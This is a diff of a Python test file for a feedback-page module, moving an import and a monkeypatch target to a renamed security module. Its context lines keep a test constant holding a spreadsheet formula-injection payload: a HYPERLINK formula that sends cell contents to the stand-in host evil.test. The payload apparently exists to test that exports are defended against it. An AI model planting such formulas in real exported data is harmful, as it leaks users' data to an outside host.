@@ -21,7 +21,7 @@ from argon2 import PasswordHasher
 from sqlalchemy import Engine, func, select
 from sqlalchemy.orm import Session
 
-import partnermon.security
+import partnermon.accounts.security
 from partnermon import partners
 from partnermon.feedback import requests, staff
 from partnermon.models import Base, FeedbackRequest, FeedbackResponse, OutboxEmail
@@ -35,7 +35,7 @@ EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
 @pytest.fixture(autouse=True)
 def quick_password_hashing(monkeypatch: pytest.MonkeyPatch) -> None:
     # These tests are about feedback pages, not hashing: four cast passwords per test stay cheap.
-    monkeypatch.setattr(partnermon.security, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
+    monkeypatch.setattr(partnermon.accounts.security, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
 
 
 @pytest.fixture
